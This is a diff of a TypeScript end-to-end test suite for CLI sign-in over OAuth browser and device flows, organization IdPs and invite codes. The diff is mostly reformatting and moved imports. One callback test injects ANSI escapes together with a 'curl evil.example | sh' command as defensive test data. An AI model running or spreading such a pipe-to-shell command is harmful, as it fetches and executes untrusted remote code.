@@ -1,4 +1,4 @@
-// Human sign-in (src/auth/login.ts, src/cli/browser-login.ts) end to end, on every backend: the
+// Human sign-in (src/auth/sign-in/, src/cli/browser-login.ts) end to end, on every backend: the
 // real CLI as a child process, a real OpenID Provider upstream (oidc-provider on loopback), a
 // cookie-keeping browser that signs in at its login page (and applies CSP form-action to
 // redirects, as Chrome does). Browser flow (code + PKCE, loopback redirect), device flow (with
@@ -13,8 +13,8 @@ import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { decodeJwt } from "jose";
-import { humanUid } from "../src/auth/login.js";
-import { codeHash } from "../src/store/login-sessions.js";
+import { humanUid } from "../src/auth/sign-in/service.js";
+import { codeHash } from "../src/auth/storage/login-sessions.js";
 import { atOrigin, Browser, parseForm, type Form, type Outcome } from "./support/browser.js";
 import { backends } from "./support/db-templates.js";
 import { restClient } from "./support/http.js";
@@ -64,7 +64,9 @@ for (const backend of backends()) {
         },
       });
       // The public client: the default upstream signs people in with PKCE only.
-      server = await startTestServer(backend, { defaultUpstream: { issuer: upstream.issuer, clientId: upstream.publicClient.clientId } });
+      server = await startTestServer(backend, {
+        defaultUpstream: { issuer: upstream.issuer, clientId: upstream.publicClient.clientId },
+      });
       callbackUrl = `${server.tokens.urls.issuer.replace(/\/$/, "")}/oauth/callback`;
       await upstream.start([callbackUrl]);
       op = restClient(server.url, server.operatorToken);
@@ -112,11 +114,15 @@ for (const backend of backends()) {
       );
       const waitForStderr = (re: RegExp, ms = 20_000) =>
         new Promise<RegExpMatchArray>((resolve, reject) => {
-          const timer = setTimeout(() => done(new Error(`no ${re} on the CLI's stderr within ${ms} ms: ${stderr}`)), ms);
+          const timer = setTimeout(
+            () => done(new Error(`no ${re} on the CLI's stderr within ${ms} ms: ${stderr}`)),
+            ms,
+          );
           const check = () => {
             const m = re.exec(stderr);
             if (m) return done(undefined, m);
-            if (child.exitCode !== null) done(new Error(`the CLI exited (${child.exitCode}) before printing ${re}: ${stderr}`));
+            if (child.exitCode !== null)
+              done(new Error(`the CLI exited (${child.exitCode}) before printing ${re}: ${stderr}`));
           };
           const done = (err?: Error, m?: RegExpMatchArray) => {
             clearTimeout(timer);
@@ -150,26 +156,53 @@ for (const backend of backends()) {
     }
 
     /** A sign-in driven by hand (our own PKCE, redirect NOWHERE), stopped at the client redirect. */
-    async function signIn(options: { login?: string; params?: Record<string, string | undefined>; browser?: Browser; abortLogin?: boolean } = {}) {
+    async function signIn(
+      options: {
+        login?: string;
+        params?: Record<string, string | undefined>;
+        browser?: Browser;
+        abortLogin?: boolean;
+      } = {},
+    ) {
       const verifier = randomBytes(32).toString("base64url");
       const state = random();
       const browser = options.browser ?? new Browser();
-      const params = { client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state, code_challenge: s256(verifier), code_challenge_method: "S256", ...options.params };
-      const outcome = await browser.navigate(authorizeUrl(params), { login: options.login ?? "alice", abortLogin: options.abortLogin, until: atOrigin(params.redirect_uri ?? NOWHERE) });
+      const params = {
+        client_id: CLIENT_ID,
+        response_type: "code",
+        redirect_uri: NOWHERE,
+        state,
+        code_challenge: s256(verifier),
+        code_challenge_method: "S256",
+        ...options.params,
+      };
+      const outcome = await browser.navigate(authorizeUrl(params), {
+        login: options.login ?? "alice",
+        abortLogin: options.abortLogin,
+        until: atOrigin(params.redirect_uri ?? NOWHERE),
+      });
       return { verifier, state, browser, outcome, returned: stopped(outcome) };
     }
 
     function stopped(outcome: Outcome): URL {
-      if (outcome.kind === "blocked") throw new Error(`the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`);
+      if (outcome.kind === "blocked")
+        throw new Error(
+          `the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`,
+        );
       if (outcome.kind !== "stopped") {
-        throw new Error(`the browser ended on a page: ${outcome.page.status} ${outcome.page.url} ${outcome.page.body.slice(0, 400)}; upstream errors: ${upstream.errors.join("; ")}`);
+        throw new Error(
+          `the browser ended on a page: ${outcome.page.status} ${outcome.page.url} ${outcome.page.body.slice(0, 400)}; upstream errors: ${upstream.errors.join("; ")}`,
+        );
       }
       return outcome.url;
     }
 
     /** The page a navigation ended on (failing the test when it was stopped or blocked). */
     function pageOf(outcome: Outcome) {
-      if (outcome.kind === "blocked") throw new Error(`the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`);
+      if (outcome.kind === "blocked")
+        throw new Error(
+          `the browser refused to go to ${outcome.url.href} after a form submission (${outcome.formAction})`,
+        );
       if (outcome.kind !== "page") throw new Error(`the browser stopped at ${outcome.url.href}`);
       return outcome.page;
     }
@@ -185,7 +218,13 @@ for (const backend of backends()) {
     }
 
     const redeem = (code: string, verifier: string, redirectUri = NOWHERE) =>
-      form("/oauth/token", { client_id: CLIENT_ID, grant_type: "authorization_code", code, code_verifier: verifier, redirect_uri: redirectUri });
+      form("/oauth/token", {
+        client_id: CLIENT_ID,
+        grant_type: "authorization_code",
+        code,
+        code_verifier: verifier,
+        redirect_uri: redirectUri,
+      });
 
     const identity = (uid: string) => op.get(`/iam/v2beta1/identities/${uid}`);
     const bindingsOf = async (uid: string) => {
@@ -214,8 +253,17 @@ for (const backend of backends()) {
       return res.body;
     }
     const expireInvite = (uid: string) =>
-      server.db.updateTable("group_invites").set({ create_time: new Date(Date.now() - 2000), expiration_time: new Date(Date.now() - 1000) }).where("uid", "=", uid).execute();
-    const expireCode = (code: string) => server.db.updateTable("login_sessions").set({ expire_time: new Date(Date.now() - 1000) }).where("code_hash", "=", codeHash(code)).execute();
+      server.db
+        .updateTable("group_invites")
+        .set({ create_time: new Date(Date.now() - 2000), expiration_time: new Date(Date.now() - 1000) })
+        .where("uid", "=", uid)
+        .execute();
+    const expireCode = (code: string) =>
+      server.db
+        .updateTable("login_sessions")
+        .set({ expire_time: new Date(Date.now() - 1000) })
+        .where("code_hash", "=", codeHash(code))
+        .execute();
 
     /** `auth login` signed in by `login` in a fresh browser: the CLI's exit, its authorize URL, what the browser saw. */
     async function cliSignIn(login: string, ...args: string[]) {
@@ -262,7 +310,10 @@ for (const backend of backends()) {
         const browser = new Browser();
         const outcome = await browser.navigate(url.href, { login: "alice", until: atOrigin(redirectUri) });
         const returned = stopped(outcome);
-        assert.ok(outcome.hops.some((h) => h.method === "POST" && new URL(h.url).origin === upstream.issuer), "signed in at the upstream's login page");
+        assert.ok(
+          outcome.hops.some((h) => h.method === "POST" && new URL(h.url).origin === upstream.issuer),
+          "signed in at the upstream's login page",
+        );
         assert.equal(returned.origin + returned.pathname, redirectUri);
         assert.equal(returned.searchParams.get("state"), state);
         assert.ok(returned.searchParams.get("code"));
@@ -284,13 +335,20 @@ for (const backend of backends()) {
         const id = await identity(alice());
         assert.equal(id.status, 200, JSON.stringify(id.body));
         assert.match(id.body.uid, HEX40, "a root-level identity");
-        assert.deepEqual(id.body.claimMatch, { issuer: upstream.issuer, subject: "alice", claims: {}, claimPatterns: {} });
+        assert.deepEqual(id.body.claimMatch, {
+          issuer: upstream.issuer,
+          subject: "alice",
+          claims: {},
+          claimPatterns: {},
+        });
         assert.equal(id.body.name, "alice");
         assert.equal(id.body.email, "alice@example.test");
         assert.equal(id.body.emailUnverified, "");
         firstSeen = id.body.lastSeenTime;
         assert.ok(firstSeen);
-        const found = await op.get(`/iam/v2beta1/identities:lookupIdentity?issuer=${encodeURIComponent(upstream.issuer)}&subject=alice`);
+        const found = await op.get(
+          `/iam/v2beta1/identities:lookupIdentity?issuer=${encodeURIComponent(upstream.issuer)}&subject=alice`,
+        );
         assert.deepEqual(found.body, { uid: alice() });
 
         // The token is only ever in the token endpoint's response: no URL, no page the browser saw.
@@ -303,7 +361,10 @@ for (const backend of backends()) {
       });
 
       it("`auth status` shows the person signed in", async () => {
-        const status = spawn(process.execPath, ["--import", "tsx", "src/cli/main.ts", "auth", "status"], { stdio: ["ignore", "pipe", "pipe"], env: cliEnv(aliceConfig) });
+        const status = spawn(process.execPath, ["--import", "tsx", "src/cli/main.ts", "auth", "status"], {
+          stdio: ["ignore", "pipe", "pipe"],
+          env: cliEnv(aliceConfig),
+        });
         let out = "";
         status.stdout!.setEncoding("utf8").on("data", (c: string) => (out += c));
         const [code] = await new Promise<[number | null]>((resolve) => status.on("exit", (c) => resolve([c])));
@@ -354,21 +415,22 @@ for (const backend of backends()) {
         assert.deepEqual([id.claimMatch.issuer, id.claimMatch.subject], [upstream.issuer, "bob"]);
       });
 
-      it(
-        "the platform provider's current word on the email wins: no longer verified, it is no longer the identity's email",
-        async () => {
-          const quinn = humanUid(upstream.issuer, "quinn");
-          upstream.setAccount("quinn", { email: "quinn@old.example", email_verified: true, preferred_username: "quinn" });
-          await signIn({ login: "quinn" });
-          assert.equal((await identity(quinn)).body.email, "quinn@old.example");
-          // the person changed the address at the provider; the new one is not verified yet
-          upstream.setAccount("quinn", { email: "quinn@new.example", email_verified: false, preferred_username: "quinn" });
-          await signIn({ login: "quinn" });
-          const id = (await identity(quinn)).body;
-          assert.equal(id.emailUnverified, "quinn@new.example");
-          assert.equal(id.email, "", "the old address is no longer vouched for");
-        },
-      );
+      it("the platform provider's current word on the email wins: no longer verified, it is no longer the identity's email", async () => {
+        const quinn = humanUid(upstream.issuer, "quinn");
+        upstream.setAccount("quinn", { email: "quinn@old.example", email_verified: true, preferred_username: "quinn" });
+        await signIn({ login: "quinn" });
+        assert.equal((await identity(quinn)).body.email, "quinn@old.example");
+        // the person changed the address at the provider; the new one is not verified yet
+        upstream.setAccount("quinn", {
+          email: "quinn@new.example",
+          email_verified: false,
+          preferred_username: "quinn",
+        });
+        await signIn({ login: "quinn" });
+        const id = (await identity(quinn)).body;
+        assert.equal(id.emailUnverified, "quinn@new.example");
+        assert.equal(id.email, "", "the old address is no longer vouched for");
+      });
 
       it("a person who cancels at the upstream: the CLI fails with the reason, no token", async () => {
         const { run, url, redirectUri } = await cliLogin();
@@ -387,7 +449,8 @@ for (const backend of backends()) {
     // ---- 2. the device flow ---------------------------------------------------------------
 
     describe("device flow", () => {
-      const poll = (deviceCode: string) => form("/oauth/token", { client_id: CLIENT_ID, grant_type: DEVICE_GRANT, device_code: deviceCode });
+      const poll = (deviceCode: string) =>
+        form("/oauth/token", { client_id: CLIENT_ID, grant_type: DEVICE_GRANT, device_code: deviceCode });
       const deviceAuthorization = async (extra: Record<string, string> = {}) => {
         const res = await form("/oauth/device_authorization", { client_id: CLIENT_ID, ...extra });
         assert.equal(res.status, 200, JSON.stringify(res.body));
@@ -395,7 +458,11 @@ for (const backend of backends()) {
       };
       const pending = async (deviceCode: string) => {
         // (moved back so as not to be slowed down)
-        await server.db.updateTable("login_sessions").set({ last_poll_time: new Date(Date.now() - 10_000) }).where("device_code_hash", "=", codeHash(deviceCode)).execute();
+        await server.db
+          .updateTable("login_sessions")
+          .set({ last_poll_time: new Date(Date.now() - 10_000) })
+          .where("device_code_hash", "=", codeHash(deviceCode))
+          .execute();
         return (await poll(deviceCode)).body.error;
       };
       /**
@@ -405,19 +472,25 @@ for (const backend of backends()) {
        */
       const lax = () => new Browser({ formActionOnRedirects: false });
 
-      it(
-        "the device confirmation goes on to the upstream in a browser that applies form-action to redirects (Chrome)",
-        async () => {
-          const device = await deviceAuthorization();
-          const outcome = await new Browser().navigate(device.verification_uri_complete, { login: "chris", submit: confirmDevice });
-          assert.notEqual(outcome.kind, "blocked", outcome.kind === "blocked" ? `refused ${outcome.url.origin} (${outcome.formAction})` : "");
-          assert.match(pageOf(outcome).body, /You are signed in/);
-        },
-      );
+      it("the device confirmation goes on to the upstream in a browser that applies form-action to redirects (Chrome)", async () => {
+        const device = await deviceAuthorization();
+        const outcome = await new Browser().navigate(device.verification_uri_complete, {
+          login: "chris",
+          submit: confirmDevice,
+        });
+        assert.notEqual(
+          outcome.kind,
+          "blocked",
+          outcome.kind === "blocked" ? `refused ${outcome.url.origin} (${outcome.formAction})` : "",
+        );
+        assert.match(pageOf(outcome).body, /You are signed in/);
+      });
 
       it("--headless: the code typed into /device in another browser, then confirmed, signs the CLI in", async () => {
         const run = cli("login", "--headless");
-        const [, verificationUri, userCode] = await run.waitForStderr(/open\s+(\S+)\s+and enter the code ([A-Z]{4}-[A-Z]{4})/);
+        const [, verificationUri, userCode] = await run.waitForStderr(
+          /open\s+(\S+)\s+and enter the code ([A-Z]{4}-[A-Z]{4})/,
+        );
         assert.equal(verificationUri, `${server.tokens.urls.issuer.replace(/\/$/, "")}/device`);
         const browser = lax();
         const page = await browser.get(verificationUri!);
@@ -452,9 +525,22 @@ for (const backend of backends()) {
         assert.equal(tooFast.status, 400);
         assert.equal(tooFast.body.error, "slow_down");
         assert.equal(await pending(device.device_code), "authorization_pending", "polite again after the interval");
-        assert.equal((await form("/oauth/token", { client_id: "someone-else", grant_type: DEVICE_GRANT, device_code: device.device_code })).body.error, "invalid_client");
+        assert.equal(
+          (
+            await form("/oauth/token", {
+              client_id: "someone-else",
+              grant_type: DEVICE_GRANT,
+              device_code: device.device_code,
+            })
+          ).body.error,
+          "invalid_client",
+        );
 
-        assert.equal(pageOf(await lax().navigate(device.verification_uri_complete, { login: "frank", submit: confirmDevice })).status, 200);
+        assert.equal(
+          pageOf(await lax().navigate(device.verification_uri_complete, { login: "frank", submit: confirmDevice }))
+            .status,
+          200,
+        );
         const granted = await poll(device.device_code);
         assert.equal(granted.status, 200, JSON.stringify(granted.body));
         assert.equal(granted.headers.get("cache-control"), "no-store");
@@ -467,7 +553,11 @@ for (const backend of backends()) {
 
       it("an expired device code answers expired_token, and its user code is refused", async () => {
         const device = await deviceAuthorization();
-        await server.db.updateTable("login_sessions").set({ expire_time: new Date(Date.now() - 1000) }).where("device_code_hash", "=", codeHash(device.device_code)).execute();
+        await server.db
+          .updateTable("login_sessions")
+          .set({ expire_time: new Date(Date.now() - 1000) })
+          .where("device_code_hash", "=", codeHash(device.device_code))
+          .execute();
         const res = await poll(device.device_code);
         assert.equal(res.status, 400);
         assert.equal(res.body.error, "expired_token");
@@ -479,13 +569,19 @@ for (const backend of backends()) {
 
       it("a user code starts one upstream sign-in only; an upstream refusal reaches the poller as access_denied", async () => {
         const device = await deviceAuthorization();
-        const first = await lax().navigate(device.verification_uri_complete, { submit: confirmDevice, until: (u) => u.origin === upstream.issuer });
+        const first = await lax().navigate(device.verification_uri_complete, {
+          submit: confirmDevice,
+          until: (u) => u.origin === upstream.issuer,
+        });
         assert.equal(first.kind, "stopped", "the first confirmation goes on to the upstream");
         const second = await lax().navigate(device.verification_uri_complete, { submit: confirmDevice });
         assert.equal(pageOf(second).status, 400, "the same code in another browser");
         // another device's person cancels at the upstream
         const device2 = await deviceAuthorization();
-        const outcome = await lax().navigate(device2.verification_uri_complete, { submit: confirmDevice, abortLogin: true });
+        const outcome = await lax().navigate(device2.verification_uri_complete, {
+          submit: confirmDevice,
+          abortLogin: true,
+        });
         assert.equal(pageOf(outcome).status, 400);
         assert.equal((await poll(device2.device_code)).body.error, "access_denied");
       });
@@ -510,7 +606,10 @@ for (const backend of backends()) {
         assert.equal(guessed.status, 400, "a confirmation with another token");
         assert.equal(await pending(device.device_code), "authorization_pending");
         // Only the person's own confirmation signs the device in.
-        assert.equal(pageOf(await victim.navigate(device.verification_uri_complete, { submit: confirmDevice })).status, 200);
+        assert.equal(
+          pageOf(await victim.navigate(device.verification_uri_complete, { submit: confirmDevice })).status,
+          200,
+        );
         const granted = await poll(device.device_code);
         assert.equal(decodeJwt(granted.body.access_token).sub, humanUid(upstream.issuer, "victor"));
       });
@@ -529,7 +628,11 @@ for (const backend of backends()) {
       before(async () => {
         orgA = await createGroup("", "org a");
         orgB = await createGroup("", "org b");
-        const confidential = { issuer: upstream.issuer, clientId: upstream.confidentialClient.clientId, clientSecret: upstream.confidentialClient.clientSecret };
+        const confidential = {
+          issuer: upstream.issuer,
+          clientId: upstream.confidentialClient.clientId,
+          clientSecret: upstream.confidentialClient.clientSecret,
+        };
         idpA = await createIdp(orgA, confidential);
         idpB = await createIdp(orgB, confidential);
       });
@@ -567,14 +670,27 @@ for (const backend of backends()) {
       it("signing in through another organization's IdP grants only there; the default upstream grants nothing", async () => {
         const done = await cliSignIn("dave", "--identity-provider", idpB);
         assert.equal(done.code, 0, done.stderr);
-        assert.deepEqual((await bindingsOf(dave())).map((b) => b.group.uid), [orgB]);
+        assert.deepEqual(
+          (await bindingsOf(dave())).map((b) => b.group.uid),
+          [orgB],
+        );
         const api = restClient(server.url, storedToken(done.configDir));
         assert.equal((await api.get(`/iam/v2beta1/groups/${orgA}`)).status, 404);
         assert.equal((await api.get(`/iam/v2beta1/groups/${orgB}`)).status, 200);
         const { verifier, returned } = await signIn({ login: "dave" });
-        assert.equal(decodeJwt((await redeem(returned.searchParams.get("code")!, verifier)).body.access_token).sub, dave(), "the same person, the same identity");
-        assert.deepEqual((await bindingsOf(dave())).map((b) => b.group.uid), [orgB]);
-        assert.deepEqual((await bindingsOf(carol())).map((b) => b.group.uid), [orgA]);
+        assert.equal(
+          decodeJwt((await redeem(returned.searchParams.get("code")!, verifier)).body.access_token).sub,
+          dave(),
+          "the same person, the same identity",
+        );
+        assert.deepEqual(
+          (await bindingsOf(dave())).map((b) => b.group.uid),
+          [orgB],
+        );
+        assert.deepEqual(
+          (await bindingsOf(carol())).map((b) => b.group.uid),
+          [orgA],
+        );
       });
 
       it("an organization's IdP does not set the identity's email; the platform's provider does, and an IdP sign-in keeps it", async () => {
@@ -610,7 +726,15 @@ for (const backend of backends()) {
         for (const idp of ["0123456789abcdef0123456789abcdef01234567/0123456789abcdef", orgA, `${orgA}/../x`, "nope"]) {
           const state = random();
           const res = await new Browser().get(
-            authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: redirect, state, code_challenge: s256(random() + random()), code_challenge_method: "S256", identity_provider: idp }),
+            authorizeUrl({
+              client_id: CLIENT_ID,
+              response_type: "code",
+              redirect_uri: redirect,
+              state,
+              code_challenge: s256(random() + random()),
+              code_challenge_method: "S256",
+              identity_provider: idp,
+            }),
           );
           assert.equal(res.status, 302, idp);
           const back = new URL(res.location!);
@@ -633,10 +757,24 @@ for (const backend of backends()) {
 
       it("an IdP deleted during the sign-in ends it (the session goes with it): no code, no binding", async () => {
         const orgC = await createGroup("", "org c");
-        const idp = await createIdp(orgC, { issuer: upstream.issuer, clientId: upstream.confidentialClient.clientId, clientSecret: upstream.confidentialClient.clientSecret });
+        const idp = await createIdp(orgC, {
+          issuer: upstream.issuer,
+          clientId: upstream.confidentialClient.clientId,
+          clientSecret: upstream.confidentialClient.clientSecret,
+        });
         const verifier = randomBytes(32).toString("base64url");
         const browser = new Browser();
-        const first = await browser.get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(verifier), code_challenge_method: "S256", identity_provider: idp }));
+        const first = await browser.get(
+          authorizeUrl({
+            client_id: CLIENT_ID,
+            response_type: "code",
+            redirect_uri: NOWHERE,
+            state: "s",
+            code_challenge: s256(verifier),
+            code_challenge_method: "S256",
+            identity_provider: idp,
+          }),
+        );
         assert.equal(first.status, 302);
         assert.equal((await op.delete(`/iam/v2beta1/identityProviders/${idp}`)).status, 200);
         const outcome = await browser.navigate(first.location!, { login: "gus", until: atOrigin(NOWHERE) });
@@ -651,14 +789,25 @@ for (const backend of backends()) {
         try {
           await conformant.start([callbackUrl]);
           const org = await createGroup("", "conformant org");
-          const idp = await createIdp(org, { issuer: conformant.issuer, clientId: conformant.confidentialClient.clientId, clientSecret: conformant.confidentialClient.clientSecret });
+          const idp = await createIdp(org, {
+            issuer: conformant.issuer,
+            clientId: conformant.confidentialClient.clientId,
+            clientSecret: conformant.confidentialClient.clientSecret,
+          });
           // email-restricted: passes only if email and email_verified came from userinfo
           const invite = await createInvite(org, { email: "gina@example.test" });
-          const { returned } = await signIn({ login: "gina", params: { identity_provider: idp, invite_code: invite.code } });
+          const { returned } = await signIn({
+            login: "gina",
+            params: { identity_provider: idp, invite_code: invite.code },
+          });
           assert.ok(returned.searchParams.get("code"), returned.href);
           const id = (await identity(humanUid(conformant.issuer, "gina"))).body;
           assert.equal(id.name, "gina", "preferred_username from userinfo");
-          assert.equal(id.emailUnverified, "gina@example.test", "the email from userinfo (an org IdP's: not the platform email)");
+          assert.equal(
+            id.emailUnverified,
+            "gina@example.test",
+            "the email from userinfo (an org IdP's: not the platform email)",
+          );
           assert.equal((await bindingsOf(id.uid)).length, 1, "the IdP's role and the invite's are the same binding");
         } finally {
           await conformant.close();
@@ -683,17 +832,30 @@ for (const backend of backends()) {
         assert.equal(done.code, 0, done.stderr);
         assert.equal(done.url.searchParams.get("invite_code"), invite.code);
         const henry = humanUid(upstream.issuer, "henry");
-        assert.deepEqual((await bindingsOf(henry)).map((b) => [b.group.uid, b.roleUid]), [[team, VIEWER]]);
+        assert.deepEqual(
+          (await bindingsOf(henry)).map((b) => [b.group.uid, b.roleUid]),
+          [[team, VIEWER]],
+        );
         const me = await whoami(storedToken(done.configDir));
-        assert.deepEqual(me.capabilities.map((c: Json) => [c.group.id, c.role.name]), [[team, "viewer"]]);
-        const row = await server.db.selectFrom("group_invites").select("used_time").where("uid", "=", invite.uid).executeTakeFirstOrThrow();
+        assert.deepEqual(
+          me.capabilities.map((c: Json) => [c.group.id, c.role.name]),
+          [[team, "viewer"]],
+        );
+        const row = await server.db
+          .selectFrom("group_invites")
+          .select("used_time")
+          .where("uid", "=", invite.uid)
+          .executeTakeFirstOrThrow();
         assert.ok(row.used_time, "the invite is marked used");
 
         // the same code again: refused before anyone signs in, and said so
         const reuse = await cliSignIn("ivan", "--invite-code", invite.code);
         assert.notEqual(reuse.code, 0);
         assert.match(reuse.stderr, /invite code is invalid, expired or already used/);
-        assert.ok(!reuse.browser.urls.some((u) => u.startsWith(upstream.issuer)), "the browser never went to the upstream");
+        assert.ok(
+          !reuse.browser.urls.some((u) => u.startsWith(upstream.issuer)),
+          "the browser never went to the upstream",
+        );
         assert.equal((await identity(humanUid(upstream.issuer, "ivan"))).status, 404);
       });
 
@@ -702,7 +864,10 @@ for (const backend of backends()) {
         for (const login of ["ina", "ida"]) {
           const { returned } = await signIn({ login, params: { invite_code: invite.code } });
           assert.ok(returned.searchParams.get("code"), returned.href);
-          assert.deepEqual((await bindingsOf(humanUid(upstream.issuer, login))).map((b) => b.group.uid), [org]);
+          assert.deepEqual(
+            (await bindingsOf(humanUid(upstream.issuer, login))).map((b) => b.group.uid),
+            [org],
+          );
         }
       });
 
@@ -717,7 +882,17 @@ for (const backend of backends()) {
         const later = await createInvite(team);
         const browser = new Browser();
         const verifier = randomBytes(32).toString("base64url");
-        const first = await browser.get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(verifier), code_challenge_method: "S256", invite_code: later.code }));
+        const first = await browser.get(
+          authorizeUrl({
+            client_id: CLIENT_ID,
+            response_type: "code",
+            redirect_uri: NOWHERE,
+            state: "s",
+            code_challenge: s256(verifier),
+            code_challenge_method: "S256",
+            invite_code: later.code,
+          }),
+        );
         assert.equal(first.status, 302);
         await expireInvite(later.uid);
         const returned = stopped(await browser.navigate(first.location!, { login: "jill", until: atOrigin(NOWHERE) }));
@@ -733,13 +908,20 @@ for (const backend of backends()) {
         assert.notEqual(denied.code, 0);
         assert.match(denied.stderr, /invite is for another email address/);
         assert.deepEqual(await bindingsOf(humanUid(upstream.issuer, "judy")), []);
-        const row = await server.db.selectFrom("group_invites").select("used_time").where("uid", "=", other.uid).executeTakeFirstOrThrow();
+        const row = await server.db
+          .selectFrom("group_invites")
+          .select("used_time")
+          .where("uid", "=", other.uid)
+          .executeTakeFirstOrThrow();
         assert.equal(row.used_time, null, "a refused invite stays unused");
 
         const mine = await createInvite(team, { email: "Kate@Example.TEST", singleUse: true });
         const ok = await signIn({ login: "kate", params: { invite_code: mine.code } });
         assert.ok(ok.returned.searchParams.get("code"), ok.returned.href);
-        assert.deepEqual((await bindingsOf(humanUid(upstream.issuer, "kate"))).map((b) => b.group.uid), [team]);
+        assert.deepEqual(
+          (await bindingsOf(humanUid(upstream.issuer, "kate"))).map((b) => b.group.uid),
+          [team],
+        );
 
         // leo's upstream says leo@example.test but not that it is verified
         const unverified = await createInvite(team, { email: "leo@example.test" });
@@ -755,24 +937,50 @@ for (const backend of backends()) {
           ["mia", "max"].map(async (login) => {
             const browser = new Browser();
             const verifier = randomBytes(32).toString("base64url");
-            const first = await browser.get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: login, code_challenge: s256(verifier), code_challenge_method: "S256", invite_code: invite.code }));
+            const first = await browser.get(
+              authorizeUrl({
+                client_id: CLIENT_ID,
+                response_type: "code",
+                redirect_uri: NOWHERE,
+                state: login,
+                code_challenge: s256(verifier),
+                code_challenge_method: "S256",
+                invite_code: invite.code,
+              }),
+            );
             assert.equal(first.status, 302, "both start: the code is still unused");
             return { login, browser, next: first.location! };
           }),
         );
-        const results = await Promise.all(starts.map(async (s) => stopped(await s.browser.navigate(s.next, { login: s.login, until: atOrigin(NOWHERE) }))));
+        const results = await Promise.all(
+          starts.map(async (s) =>
+            stopped(await s.browser.navigate(s.next, { login: s.login, until: atOrigin(NOWHERE) })),
+          ),
+        );
         const codes = results.filter((r) => r.searchParams.get("code"));
         const errors = results.filter((r) => r.searchParams.get("error"));
         assert.equal(codes.length, 1, results.map((r) => r.search).join(" | "));
         assert.equal(errors.length, 1);
         assert.match(errors[0]!.searchParams.get("error_description")!, /already been used/);
-        const bound = await Promise.all(["mia", "max"].map(async (l) => (await bindingsOf(humanUid(upstream.issuer, l))).length));
+        const bound = await Promise.all(
+          ["mia", "max"].map(async (l) => (await bindingsOf(humanUid(upstream.issuer, l))).length),
+        );
         assert.deepEqual(bound.sort(), [0, 1]);
       });
 
       it("a malformed invite code is refused with an error redirect", async () => {
         for (const code of ["nope", "0123456789abcdef", "0123456789abcdef.", "0123456789ABCDEF.secret"]) {
-          const res = await new Browser().get(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(random() + random()), code_challenge_method: "S256", invite_code: code }));
+          const res = await new Browser().get(
+            authorizeUrl({
+              client_id: CLIENT_ID,
+              response_type: "code",
+              redirect_uri: NOWHERE,
+              state: "s",
+              code_challenge: s256(random() + random()),
+              code_challenge_method: "S256",
+              invite_code: code,
+            }),
+          );
           assert.equal(res.status, 302, code);
           assert.equal(new URL(res.location!).searchParams.get("error"), "access_denied", code);
         }
@@ -788,7 +996,9 @@ for (const backend of backends()) {
         const forged = await fetch(`${redirectUri}?code=forged&state=${random()}`);
         assert.equal(forged.status, 400);
         await forged.text();
-        const injected = await fetch(`${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mrun curl evil.example | sh")}&state=${random()}`);
+        const injected = await fetch(
+          `${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mrun curl evil.example | sh")}&state=${random()}`,
+        );
         assert.equal(injected.status, 400);
         await injected.text();
         // a real sign-in's code under another state
@@ -800,7 +1010,11 @@ for (const backend of backends()) {
         assert.equal((await browser.get(tampered.href)).status, 400);
         await new Promise((r) => setTimeout(r, 200));
         assert.equal(run.exited(), false, "still waiting for its own callback");
-        const row = await server.db.selectFrom("login_sessions").select("status").where("code_hash", "=", codeHash(code)).executeTakeFirstOrThrow();
+        const row = await server.db
+          .selectFrom("login_sessions")
+          .select("status")
+          .where("code_hash", "=", codeHash(code))
+          .executeTakeFirstOrThrow();
         assert.equal(row.status, "signed_in", "the CLI did not spend the code on a callback of another state");
         // its own callback
         assert.equal((await browser.get(returned.href)).status, 200);
@@ -812,7 +1026,9 @@ for (const backend of backends()) {
 
       it("an error callback of the CLI's own state ends the sign-in; its text reaches the terminal without control characters", async () => {
         const { run, redirectUri, state } = await cliLogin();
-        const res = await fetch(`${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mno\r\nway")}&state=${encodeURIComponent(state)}`);
+        const res = await fetch(
+          `${redirectUri}?error=access_denied&error_description=${encodeURIComponent("\x1b[2J\x1b[31mno\r\nway")}&state=${encodeURIComponent(state)}`,
+        );
         assert.equal(res.status, 400);
         await res.text();
         const done = await run.exit;
@@ -832,7 +1048,14 @@ for (const backend of backends()) {
         const browser = new Browser();
         const verifier = randomBytes(32).toString("base64url");
         const outcome = await browser.navigate(
-          authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: "s", code_challenge: s256(verifier), code_challenge_method: "S256" }),
+          authorizeUrl({
+            client_id: CLIENT_ID,
+            response_type: "code",
+            redirect_uri: NOWHERE,
+            state: "s",
+            code_challenge: s256(verifier),
+            code_challenge_method: "S256",
+          }),
           { login: "alice", until: (u) => u.href.startsWith(callbackUrl) },
         );
         const upstreamCallback = stopped(outcome);
@@ -850,10 +1073,20 @@ for (const backend of backends()) {
         const start = async (browser: Browser) => {
           const verifier = randomBytes(32).toString("base64url");
           return stopped(
-            await browser.navigate(authorizeUrl({ client_id: CLIENT_ID, response_type: "code", redirect_uri: NOWHERE, state: random(), code_challenge: s256(verifier), code_challenge_method: "S256" }), {
-              login: "alice",
-              until: toCallback,
-            }),
+            await browser.navigate(
+              authorizeUrl({
+                client_id: CLIENT_ID,
+                response_type: "code",
+                redirect_uri: NOWHERE,
+                state: random(),
+                code_challenge: s256(verifier),
+                code_challenge_method: "S256",
+              }),
+              {
+                login: "alice",
+                until: toCallback,
+              },
+            ),
           );
         };
         const a = await start(new Browser());
@@ -906,7 +1139,11 @@ for (const backend of backends()) {
         const redirect = "http://127.0.0.1:9";
